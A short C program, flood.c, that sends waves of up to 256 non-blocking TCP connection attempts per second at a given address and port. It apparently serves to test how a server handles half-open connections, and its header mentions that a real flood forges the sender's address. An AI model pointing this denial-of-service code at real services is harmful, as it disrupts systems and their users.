/* flood.c - opens many connections and never gets an answer
 *
 *	flood ADDRESS PORT WAVES HOW-MANY
 *
 * Each second a wave of that many SYNs goes out, and those of the wave before are
 * given up. The wire loses the SYN,ACKs, so for the server every one of them is a
 * half-open connection. (A flood in earnest forges its sender's address, with the
 * same effect.)
 */
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#define MOST 256

int main(int argc, char **argv)
{
	const struct addrinfo how = { .ai_socktype = SOCK_STREAM };
	struct addrinfo *server;
	int socks[MOST], many;

	if (argc != 5 || getaddrinfo(argv[1], argv[2], &how, &server) ||
	    (many = atoi(argv[4])) < 0 || many > MOST) {
		fprintf(stderr, "usage: flood ADDRESS PORT WAVES HOW-MANY\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);

	for (int wave = 1; wave <= atoi(argv[3]); wave++) {
		for (int i = 0; i < many; i++) {
			socks[i] = socket(server->ai_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
			connect(socks[i], server->ai_addr, server->ai_addrlen);
		}
		printf("wave=%d\n", wave);
		sleep(1);
		for (int i = 0; i < many; i++)
			close(socks[i]);
	}
	return 0;
}
